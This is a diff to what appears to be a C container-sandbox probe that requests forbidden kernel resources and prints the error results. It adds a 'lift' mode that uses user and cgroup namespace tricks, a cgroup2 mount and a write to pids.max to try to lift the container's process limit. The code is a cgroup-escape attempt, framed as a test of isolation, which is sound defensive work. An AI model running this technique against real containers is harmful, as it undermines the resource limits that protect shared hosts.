@@ -1,5 +1,9 @@
-/* Requests from the kernel what containers must not get, and prints the errors. 0 is success. */
+/*
+ * Requests from the kernel what containers must not get, and prints the errors. 0 is success. "lift" attacks
+ * the container's control group instead.
+ */
 #include <sys/socket.h>
+#include <linux/sched.h>
 #include <linux/vm_sockets.h>
 
 static void try(const char *name, long result)
@@ -7,10 +11,37 @@ static void try(const char *name, long result)
 	printf("%s %d\n", name, result < 0 ? errno : 0);
 }
 
-int main(void)
+static int write_text(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY), result = fd < 0 ? -1 : write(fd, text, strlen(text));
+
+	close(fd);
+	return result;
+}
+
+/*
+ * Tries to lift the limit of the container's control group, as root of a user namespace. The kernel protects
+ * only the root of the process' own cgroup namespace, so the process first makes itself one further down.
+ */
+static int lift_limit(void)
+{
+	if (syscall(__NR_unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
+		return 1;
+	write_text("/proc/self/uid_map", "0 0 1");
+	try("mount(cgroup2)", mount("cgroup2", "/mnt", "cgroup2", 0, ""));
+	try("mkdir(group)", mkdir("/mnt/group", 0755));
+	try("enter group", write_text("/mnt/group/cgroup.procs", "0"));
+	try("unshare(CLONE_NEWCGROUP)", syscall(__NR_unshare, CLONE_NEWCGROUP));
+	try("write(pids.max)", write_text("/mnt/pids.max", "max"));
+	return 0;
+}
+
+int main(int argc, char **argv)
 {
 	char log[64];
 
+	if (argc == 2 && strcmp(argv[1], "lift") == 0)
+		return lift_limit();
 	printf("effective user %d\n", (int)syscall(__NR_geteuid));
 	try("socket(AF_VSOCK)", socket(AF_VSOCK, SOCK_STREAM, 0));
 	/* The kernel uses the lower half only. */
